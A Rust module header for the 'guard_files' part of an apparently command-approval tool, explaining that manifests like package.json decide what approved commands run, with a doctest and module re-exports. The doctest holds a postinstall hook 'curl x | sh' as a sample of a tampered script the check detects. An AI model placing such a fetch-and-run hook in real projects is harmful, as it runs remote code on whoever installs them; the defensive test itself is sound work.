//! Which files decide what an approved command executes, and which part of each.
//!
//! Whoever writes `package.json` writes what `npm install` means. So an approval counts as long as these files are what
//! their owner last accepted. What is known about them is data (`data/guard_files.toml`); reading them is the business of
//! others. Nothing here approves: what is found can only make a command ask.
//!
//! ```
//! use unstuck_core::guard_files::GuardKnowledge;
//!
//! let known = GuardKnowledge::built_in();
//! let rule = known.rule("web/package.json");
//! let part = |text: &str| rule.part(text.as_bytes());
//! let before = part(r#"{"version": "1.0.0", "scripts": {"postinstall": "true"}}"#);
//! assert_eq!(part(r#"{"scripts": {"postinstall": "true"}, "version": "1.0.1"}"#), before);
//! assert_ne!(part(r#"{"version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}"#), before);
//! ```

mod baseline;
mod file_rule;
mod glob;
mod json;
mod knowledge;
mod pattern;
mod sources;
mod specs;
mod step;
#[cfg(test)]
mod tests;
mod tree;
mod words;
mod xml;

pub use baseline::{Accepted, Baseline};
pub use file_rule::FileRule;
pub use glob::{fits, folder_fits};
pub use knowledge::{GuardKnowledge, Interpreter, Tool, Written};
pub use step::{Step, Use};
pub use words::steps;
